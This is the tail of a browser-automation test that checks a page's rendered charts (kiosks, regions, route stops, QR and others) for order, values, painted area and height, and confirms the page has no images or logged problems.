      expect(drawn.map((d) => d.id)).toEqual(['chart-hours', 'chart-kiosks', 'chart-regions', 'chart-projects', 'chart-clusters', 'chart-route-stops', 'chart-qr', 'chart-lengths']);
      expect(drawn.find((d) => d.id === 'chart-kiosks')?.values).toEqual([15, 11]);
      for (const chart of drawn) {
        expect(chart.painted).toBeGreaterThan(1000);
        expect(chart.height).toBeGreaterThan(100);
      }
      expect(await page.locator('img').count()).toBe(0);
      expect(problems).toEqual([]);
    } finally {
      await browser.close();
    }
  }, 60_000);
});
